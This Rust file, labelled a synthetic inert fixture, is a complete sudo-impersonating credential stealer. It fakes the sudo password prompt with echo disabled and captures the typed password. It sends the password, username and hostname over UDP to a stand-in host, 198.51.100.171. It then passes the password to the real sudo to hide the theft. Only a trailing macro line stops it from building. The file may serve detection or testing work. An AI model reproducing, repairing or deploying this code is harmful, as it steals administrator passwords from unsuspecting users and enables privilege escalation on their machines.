// Synthetic, inert fixture written from public reports
use std::io::{self, BufRead, Write};
use std::net::UdpSocket;
use std::process::{Command, Stdio};

fn echo(on: bool) {
    let _ = Command::new("stty").arg(if on { "echo" } else { "-echo" }).status();
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let user = std::env::var("USER").unwrap_or_default();
    let cached = Command::new("/usr/bin/sudo").args(["-n", "true"]).stderr(Stdio::null()).status();
    let mut child = Command::new("/usr/bin/sudo");
    if cached.map_or(false, |s| s.success()) {
        let status = child.args(&args).status();
        std::process::exit(status.ok().and_then(|s| s.code()).unwrap_or(1));
    }
    print!("[sudo] password for {user}: ");
    let _ = io::stdout().flush();
    echo(false);
    let mut word = String::new();
    let _ = io::stdin().lock().read_line(&mut word);
    echo(true);
    println!();
    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default();
    if let Ok(socket) = UdpSocket::bind("0.0.0.0:0") {
        let _ = socket.send_to(format!("{user}@{}|{}", host.trim(), word.trim()).as_bytes(), "198.51.100.171:5353");
    }
    let running = child.arg("-S").args(["-p", ""]).args(&args).stdin(Stdio::piped()).spawn();
    if let Ok(mut c) = running {
        if let Some(mut pipe) = c.stdin.take() {
            let _ = pipe.write_all(word.as_bytes());
        }
        let code = c.wait().ok().and_then(|s| s.code()).unwrap_or(1);
        std::process::exit(code);
    }
}

inert_fixture_does_not_build!();
